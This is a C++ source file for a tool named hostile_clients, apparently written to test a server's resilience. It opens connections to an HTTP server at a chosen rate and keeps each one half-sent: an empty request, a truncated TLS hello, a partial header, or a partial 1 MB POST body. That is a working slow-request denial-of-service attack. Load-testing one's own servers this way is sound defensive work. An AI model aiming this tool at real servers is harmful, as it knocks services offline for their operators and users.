// Opens connections to an HTTP server at a rate and sends too little on each, until it is ended:
//
//   hostile_clients 127.0.0.1:8001 140   says "attacking" when as many are open as ever will be
//
// The clients alternate: nothing, half a TLS hello, half a head, half a body of a megabyte. Every
// connection is kept until the server closes it. One thread, little of the processor: what the
// attack costs is the server's.

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/epoll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <array>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

#include "lib/base/check.h"

namespace tahoma {
namespace {

using std::chrono::steady_clock;

// The server's time for half a request, and a second more: from then on as many go as come.
constexpr std::chrono::seconds kUntilSteady{16};

std::vector<std::string> Beginnings() {
  const std::string post =
      "POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: localhost\r\n"
      "Content-Type: application/json\r\nContent-Length: 1000000\r\n\r\n";
  return {"", std::string("\x16\x03\x01\x02\x00\x01\x00", 7),
          "GET /api/v1/nodes HTTP/1.1\r\nHost: loc", post + std::string(64 << 10, ' ')};
}

sockaddr_in AddressOf(const std::string& address) {
  const std::size_t colon = address.rfind(':');
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(static_cast<std::uint16_t>(std::atoi(address.c_str() + colon + 1)));
  TAHOMA_CHECK(inet_pton(AF_INET, address.substr(0, colon).c_str(), &to.sin_addr) == 1);
  return to;
}

void Open(const sockaddr_in& to, const std::string& beginning, int epoll) {
  const int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) return;
  if (connect(fd, reinterpret_cast<const sockaddr*>(&to), sizeof to) != 0) {
    close(fd);
    return;
  }
  (void)send(fd, beginning.data(), beginning.size(), MSG_NOSIGNAL | MSG_DONTWAIT);
  epoll_event event{.events = EPOLLRDHUP, .data = {.fd = fd}};
  TAHOMA_CHECK(epoll_ctl(epoll, EPOLL_CTL_ADD, fd, &event) == 0);
}

void CloseEnded(int epoll, int wait_ms) {
  std::array<epoll_event, 256> ended{};
  const int count = epoll_wait(epoll, ended.data(), static_cast<int>(ended.size()), wait_ms);
  for (int i = 0; i < count; ++i) close(ended[static_cast<std::size_t>(i)].data.fd);
}

[[noreturn]] void Attack(const sockaddr_in& to, int rate) {
  const std::vector<std::string> beginnings = Beginnings();
  const int epoll = epoll_create1(0);
  const auto start = steady_clock::now();
  bool told = false;
  for (long opened = 0;; CloseEnded(epoll, 5)) {
    const std::chrono::duration<double> elapsed = steady_clock::now() - start;
    for (; static_cast<double>(opened) < elapsed.count() * rate; ++opened) {
      Open(to, beginnings[static_cast<std::size_t>(opened) % beginnings.size()], epoll);
    }
    if (told || elapsed < kUntilSteady) continue;
    told = true;
    std::puts("attacking");
    std::fflush(stdout);
  }
}

}  // namespace
}  // namespace tahoma

int main(int argc, char** argv) {
  const int rate = argc == 3 ? std::atoi(argv[2]) : 0;
  if (rate < 1) {
    std::fprintf(stderr, "usage: hostile_clients HOST:PORT CONNECTIONS_PER_SECOND\n");
    return 2;
  }
  rlimit files{};
  getrlimit(RLIMIT_NOFILE, &files);
  files.rlim_cur = files.rlim_max;
  setrlimit(RLIMIT_NOFILE, &files);
  tahoma::Attack(tahoma::AddressOf(argv[1]), rate);
}
